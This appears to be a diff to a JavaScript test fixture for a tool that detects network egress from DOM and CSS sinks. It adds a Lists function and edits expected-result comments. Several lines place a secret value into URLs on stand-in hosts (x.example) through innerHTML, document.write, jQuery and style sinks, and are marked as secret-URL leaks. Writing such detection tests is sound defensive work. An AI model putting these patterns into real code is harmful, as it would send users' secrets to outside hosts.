@@ -54,10 +54,10 @@ export function Texts(node) {
   node.insertAdjacentHTML("beforeend", '<iframe src="https://x.example/"></iframe>'); // row: egress frame GET external https://x.example/
   document.createRange().createContextualFragment('<video src="https://x.example/" poster="https://y.example/"></video>'); // row: egress image GET external https://y.example/; egress media GET external https://x.example/
   node.setHTMLUnsafe('<img srcset="https://x.example/1 1x, https://y.example/2 2x">'); // row: egress image GET external https://x.example/1 https://y.example/2
-  document.write(`<meta http-equiv="refresh" content="0; url=https://x.example/?${source()}">`); // row: egress navigation external https://x.example/?{} <- secret url
+  document.write(`<meta http-equiv="refresh" content="0; url=https://x.example/?${source()}">`); // row: egress navigation external https://x.example/? https://x.example/?{} <- secret url
   document.writeln("<form action='https://x.example/'></form>"); // row: egress form external https://x.example/
   $("#a").html("<a href='https://x.example/' ping='https://y.example/'>a</a>"); // row: egress beacon POST external https://y.example/
-  $("#a").append(`<a href="https://x.example/?${source()}">a</a>`); // row: egress navigation external https://x.example/?{} <- secret url
+  $("#a").append(`<a href="https://x.example/?${source()}">a</a>`); // row: egress navigation external https://x.example/? https://x.example/?{} <- secret url
   return <div dangerouslySetInnerHTML={{ __html: '<img src="https://x.example/">' }} />; // row: egress image GET external https://x.example/
 }
 
@@ -117,4 +117,20 @@ export function Written(node) {
   node.style.cssText = "color: url";
   new FontFace("A", "url(https://x.example/a.woff2)"); // row: egress font GET external https://x.example/a.woff2
   return <div style={{ backgroundImage: `url("https://x.example/${source()}")` }} />; // row: egress image GET external https://x.example/{} <- secret url
+}
+
+export function Lists(node, items) {
+  node.innerHTML = items.map((item) => `<img src="https://x.example/?${source()}">`).join(""); // row: egress image GET external https://x.example/?{} <- secret url
+  node.innerHTML = clean("<ul>" + items.map(row).join("") + "</ul>"); // row: egress image GET external https://x.example/{}
+  let text = "";
+  for (const item of items) text += `<iframe src="https://x.example/${item.id}"></iframe>`;
+  node.innerHTML = text; // row: egress frame GET external https://x.example/{}
+  const parts = [];
+  parts.push('<audio src="https://x.example/">');
+  node.innerHTML = parts.join(""); // row: egress media GET external https://x.example/
+  node.textContent = items.map(row).join("");
+}
+
+function row(item) {
+  return `<li><img src="https://x.example/${item.id}"> ${source()}</li>`;
 }
